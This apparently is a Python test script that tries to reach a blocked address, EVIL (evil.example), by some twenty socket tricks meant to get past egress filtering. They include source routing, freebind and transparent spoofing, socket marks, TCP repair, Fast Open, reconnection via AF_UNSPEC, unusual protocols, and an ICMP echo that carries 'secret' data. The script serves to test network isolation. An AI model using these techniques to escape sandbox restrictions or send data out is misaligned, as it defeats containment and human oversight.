"""Tries to reach EVIL (an address with a web server on port 80) by every trick of sockets.

Each trick is "reached", the name of an error, or what else happened. NAMES of tricks may follow; else all.
"""

import errno
import socket
import struct
import sys

from common import say

GET = b"GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
EVIL = sys.argv[1]
SO_MARK, SO_BINDTODEVICE, SO_PRIORITY = 36, 25, 12
IP_OPTIONS, IP_FREEBIND, IP_TRANSPARENT, IP_BIND_ADDRESS_NO_PORT, IP_UNICAST_IF = 4, 15, 19, 24, 50
TCP_REPAIR, TCP_FASTOPEN_CONNECT, TCP_ULP = 19, 30, 31
MPTCP, SCTP, DCCP, UDPLITE = 262, 132, 33, 136
MSG_FASTOPEN = 0x20000000


def heard(end):
    end.settimeout(1)
    end.sendall(GET)
    return "reached" if end.recv(100).startswith(b"HTTP/1.1 200") else "closed"


def dial(*options, kind=socket.SOCK_STREAM, protocol=0, source=None):
    with socket.socket(socket.AF_INET, kind, protocol) as end:
        end.settimeout(1)
        for option in options:
            end.setsockopt(*option)
        if source is not None:
            end.bind(source)
        end.connect((EVIL, 80))
        return heard(end)


def fast_open():
    with socket.socket() as end:
        end.sendto(GET, MSG_FASTOPEN, (EVIL, 80))
        end.settimeout(1)
        return "reached" if end.recv(100).startswith(b"HTTP/1.1 200") else "closed"


def connect_again():
    """Connect to where it may, let go with AF_UNSPEC, and connect the same socket to where it may not."""
    with socket.socket() as listener, socket.socket() as end:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        end.settimeout(1)
        end.connect(listener.getsockname())
        libc = __import__("ctypes").CDLL(None, use_errno=True)
        libc.connect(end.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16)
        end.connect((EVIL, 80))
        return heard(end)


def mapped():
    with socket.socket(socket.AF_INET6) as end:
        end.settimeout(1)
        end.connect((f"::ffff:{EVIL}", 80))
        return heard(end)


def source_route():
    hops = socket.inet_aton(EVIL) * 2
    route = bytes([1, 131, 3 + len(hops), 4]) + hops
    return dial((socket.IPPROTO_IP, IP_OPTIONS, route))


def datagram(protocol=0, kind=socket.SOCK_DGRAM, port=53):
    """A question to a name server that answers."""
    query = bytes.fromhex("123401000001000000000000" + "046576696c076578616d706c6500" + "00010001")
    with socket.socket(socket.AF_INET, kind, protocol) as end:
        end.settimeout(1)
        end.sendto(query, ("8.8.8.8", port))
        return "reached" if end.recv(500)[3] & 15 == 0 else "answered locally"


def echo_request():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as end:
        end.settimeout(1)
        end.sendto(b"\x08\0\0\0\0\0\0\1secret", (EVIL, 0))
        return "answered" if end.recv(100) else "closed"


TRICKS = {
    "plain": dial,
    "by name": lambda: heard(socket.create_connection(("evil.example", 80), 1)),
    "mapped": mapped,
    "bound to the device": lambda: dial((socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0")),
    "marked": lambda: dial((socket.SOL_SOCKET, SO_MARK, 1)),
    "with a source route": source_route,
    "from another address": lambda: dial((socket.IPPROTO_IP, IP_FREEBIND, 1), source=("11.0.0.99", 0)),
    "from the address itself": lambda: dial((socket.IPPROTO_IP, IP_FREEBIND, 1), source=(EVIL, 0)),
    "from a privileged port": lambda: dial(source=("0.0.0.0", 81)),
    "transparent": lambda: dial((socket.IPPROTO_IP, IP_TRANSPARENT, 1), source=("11.0.0.99", 0)),
    "through an interface": lambda: dial((socket.IPPROTO_IP, IP_UNICAST_IF, socket.htonl(1))),
    "in repair": lambda: dial((socket.IPPROTO_TCP, TCP_REPAIR, 1)),
    "fast open": fast_open,
    "fast open on connect": lambda: dial((socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)),
    "connected again": connect_again,
    "multipath": lambda: dial(protocol=MPTCP),
    "SCTP": lambda: dial(protocol=SCTP),
    "DCCP": lambda: dial(kind=6, protocol=DCCP),
    "a datagram": datagram,
    "a datagram to another port": lambda: datagram(port=5353),
    "UDP-Lite": lambda: datagram(UDPLITE),
    "an echo request": echo_request,
}


def attempt(trick):
    try:
        return trick()
    except socket.gaierror:
        return "no such name"
    except TimeoutError:
        return "ETIMEDOUT"
    except OSError as error:
        return errno.errorcode[error.errno]


say({name: attempt(trick) for name, trick in TRICKS.items() if name in (sys.argv[2:] or TRICKS)})
